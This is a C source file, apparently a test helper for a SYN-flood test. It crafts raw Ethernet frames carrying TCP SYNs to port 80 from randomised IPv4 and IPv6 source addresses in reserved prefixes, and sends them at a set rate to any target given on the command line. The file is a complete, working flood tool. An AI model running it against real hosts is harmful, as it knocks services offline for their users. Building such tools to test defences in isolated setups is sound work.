// SPDX-License-Identifier: BSD-3-Clause
//
// A flood of SYNs (RFC 4987 2): frames from random sources, IPv4 and IPv6 in turn, all built before the first
// is sent over a raw socket at an even rate. Whoever sends a SYN and never another word.
// Run by syn_flood_test.py, inside a namespace.
#include <arpa/inet.h>
#include <assert.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum {
	SLOT_BYTES = 80,
	BATCH_FRAMES = 64,
	FAMILIES = 2,
	HTTP_PORT = 80,
	MSS = 1400,
	IPV4_FRAME_BYTES = 58,
	IPV6_FRAME_BYTES = 78,
	NS_PER_S = 1000000000,
};

// Prefixes that nobody in the namespace has: 198.19.0.0/16 of RFC 2544, and a unique local one of RFC 4193.
#define SOURCE_IPV4 UINT32_C(0xc6130000)
static const uint8_t source_ipv6[8] = {0xfd, 0, 0, 0, 0, 0, 0, 1};

struct __attribute__((packed)) syn {
	struct tcphdr tcp;
	uint8_t mss_option[4];
};

struct __attribute__((packed)) frame_ipv4 {
	struct ether_header ethernet;
	struct iphdr ip;
	struct syn syn;
};

struct __attribute__((packed)) frame_ipv6 {
	struct ether_header ethernet;
	struct ip6_hdr ip;
	struct syn syn;
};

static_assert(sizeof(struct frame_ipv4) == IPV4_FRAME_BYTES, "no padding");
static_assert(sizeof(struct frame_ipv6) == IPV6_FRAME_BYTES, "no padding");
static_assert((int)IPV6_FRAME_BYTES <= (int)SLOT_BYTES, "a frame fits its slot");

struct flood {
	const char *interface;
	struct ether_header ethernet;
	struct in_addr target_ipv4;
	struct in6_addr target_ipv6;
	uint64_t n_frames;
	uint64_t frames_per_s;
	uint64_t random; // state of random_next(): the seed at first
	uint8_t (*slots)[SLOT_BYTES];
};

static void fail(const char *what)
{
	fprintf(stderr, "syn_flood: %s: %s\n", what, strerror(errno));
	exit(1);
}

// SplitMix64.
static uint64_t random_next(struct flood *flood)
{
	uint64_t z = flood->random += UINT64_C(0x9e3779b97f4a7c15);

	z = (z ^ z >> 30) * UINT64_C(0xbf58476d1ce4e5b9);
	z = (z ^ z >> 27) * UINT64_C(0x94d049bb133111eb);
	return z ^ z >> 31;
}

// RFC 1071, for an even number of bytes.
static uint64_t sum_of(const void *bytes, size_t len_bytes)
{
	uint64_t sum = 0;
	uint16_t word;

	for (size_t i = 0; i < len_bytes; i += sizeof(word)) {
		memcpy(&word, (const uint8_t *)bytes + i, sizeof(word));
		sum += word;
	}
	return sum;
}

static uint16_t checksum_of(uint64_t sum)
{
	while (sum >> 16 != 0)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

// Both addresses lie behind each other in either header.
static struct syn make_syn(struct flood *flood, const void *addresses, size_t addresses_bytes)
{
	uint64_t numbers = random_next(flood);
	struct syn syn = {
		.tcp =
			{
				.source = htons((uint16_t)(1024 + (numbers >> 32) % 64512)),
				.dest = htons(HTTP_PORT),
				.seq = (uint32_t)numbers,
				.doff = sizeof(struct syn) / 4,
				.syn = 1,
				.window = htons(UINT16_MAX),
			},
		.mss_option = {TCPOPT_MAXSEG, TCPOLEN_MAXSEG, MSS >> 8, MSS & 0xff},
	};

	syn.tcp.check = checksum_of(sum_of(addresses, addresses_bytes) + htons(sizeof(syn))
				    + htons(IPPROTO_TCP) + sum_of(&syn, sizeof(syn)));
	return syn;
}

static void build_ipv4(struct flood *flood, uint8_t *slot)
{
	struct frame_ipv4 frame = {
		.ethernet = flood->ethernet,
		.ip =
			{
				.version = 4,
				.ihl = sizeof(struct iphdr) / 4,
				.tot_len = htons(sizeof(struct iphdr) + sizeof(struct syn)),
				.ttl = 64,
				.protocol = IPPROTO_TCP,
				.saddr = htonl(SOURCE_IPV4 | (random_next(flood) & 0xffff)),
				.daddr = flood->target_ipv4.s_addr,
			},
	};

	frame.ethernet.ether_type = htons(ETHERTYPE_IP);
	frame.ip.check = checksum_of(sum_of(&frame.ip, sizeof(frame.ip)));
	frame.syn = make_syn(flood, &frame.ip.saddr, 2 * sizeof(frame.ip.saddr));
	memcpy(slot, &frame, sizeof(frame));
}

static void build_ipv6(struct flood *flood, uint8_t *slot)
{
	uint64_t host = random_next(flood);
	struct frame_ipv6 frame = {
		.ethernet = flood->ethernet,
		.ip =
			{
				.ip6_flow = htonl(UINT32_C(6) << 28),
				.ip6_plen = htons(sizeof(struct syn)),
				.ip6_nxt = IPPROTO_TCP,
				.ip6_hlim = 64,
				.ip6_dst = flood->target_ipv6,
			},
	};

	frame.ethernet.ether_type = htons(ETHERTYPE_IPV6);
	memcpy(frame.ip.ip6_src.s6_addr, source_ipv6, sizeof(source_ipv6));
	memcpy(frame.ip.ip6_src.s6_addr + sizeof(source_ipv6), &host, sizeof(host));
	frame.syn = make_syn(flood, &frame.ip.ip6_src, 2 * sizeof(frame.ip.ip6_src));
	memcpy(slot, &frame, sizeof(frame));
}

static void build(struct flood *flood)
{
	flood->slots = calloc(flood->n_frames, SLOT_BYTES);
	if (flood->slots == NULL)
		fail("no memory for the frames");
	for (uint64_t i = 0; i < flood->n_frames; i++)
		(i % FAMILIES == 0 ? build_ipv4 : build_ipv6)(flood, flood->slots[i]);
}

static int open_socket(const char *interface)
{
	struct sockaddr_ll address = {
		.sll_family = AF_PACKET,
		.sll_ifindex = (int)if_nametoindex(interface),
	};
	int fd = socket(AF_PACKET, SOCK_RAW, 0); // protocol 0: it receives nothing

	if (fd < 0 || address.sll_ifindex == 0
	    || bind(fd, (struct sockaddr *)&address, sizeof(address)) != 0)
		fail(interface);
	return fd;
}

static uint64_t now_ns(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (uint64_t)now.tv_sec * NS_PER_S + (uint64_t)now.tv_nsec;
}

static void sleep_until(uint64_t when_ns)
{
	struct timespec when = {
		.tv_sec = (time_t)(when_ns / NS_PER_S),
		.tv_nsec = (long)(when_ns % NS_PER_S),
	};

	clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &when, NULL);
}

// Sends what is left of a batch; gives how many frames have gone.
static unsigned send_batch(const struct flood *flood, int fd, uint64_t first, unsigned n)
{
	struct iovec pieces[BATCH_FRAMES];
	struct mmsghdr messages[BATCH_FRAMES] = {0};
	int sent;

	for (unsigned i = 0; i < n; i++) {
		pieces[i] = (struct iovec){
			.iov_base = flood->slots[first + i],
			.iov_len = (first + i) % FAMILIES == 0 ? IPV4_FRAME_BYTES
							       : IPV6_FRAME_BYTES,
		};
		messages[i].msg_hdr.msg_iov = &pieces[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	sent = sendmmsg(fd, messages, n, 0);
	if (sent < 0 && errno != ENOBUFS && errno != EINTR)
		fail("sendmmsg");
	return sent < 0 ? 0 : (unsigned)sent;
}

static void send_all(const struct flood *flood)
{
	int fd = open_socket(flood->interface);
	uint64_t start_ns = now_ns();
	uint64_t sent = 0;

	while (sent < flood->n_frames) {
		uint64_t left = flood->n_frames - sent;
		unsigned n = left < BATCH_FRAMES ? (unsigned)left : BATCH_FRAMES;

		sent += send_batch(flood, fd, sent, n);
		sleep_until(start_ns + sent * NS_PER_S / flood->frames_per_s);
	}
	printf("%ju frames in %.1f s\n", (uintmax_t)sent, (double)(now_ns() - start_ns) / NS_PER_S);
	close(fd);
}

static struct ether_addr mac_of(const char *text)
{
	struct ether_addr mac;

	errno = EINVAL;
	if (ether_aton_r(text, &mac) == NULL)
		fail(text);
	return mac;
}

int main(int argc, char **argv)
{
	struct flood flood = {0};
	struct ether_addr from, to;

	if (argc != 9) {
		fputs("usage: syn_flood INTERFACE FROM-MAC TO-MAC IPV4 IPV6 FRAMES FRAMES-PER-S SEED\n",
		      stderr);
		return 2;
	}
	flood.interface = argv[1];
	from = mac_of(argv[2]);
	to = mac_of(argv[3]);
	memcpy(flood.ethernet.ether_shost, &from, sizeof(from));
	memcpy(flood.ethernet.ether_dhost, &to, sizeof(to));
	if (inet_pton(AF_INET, argv[4], &flood.target_ipv4) != 1
	    || inet_pton(AF_INET6, argv[5], &flood.target_ipv6) != 1)
		fail("target addresses");
	flood.n_frames = strtoull(argv[6], NULL, 10);
	flood.frames_per_s = strtoull(argv[7], NULL, 10);
	flood.random = strtoull(argv[8], NULL, 10);
	errno = EINVAL;
	if (flood.n_frames == 0 || flood.frames_per_s == 0)
		fail("frames and their rate");
	build(&flood);
	send_all(&flood);
	free(flood.slots);
	return 0;
}
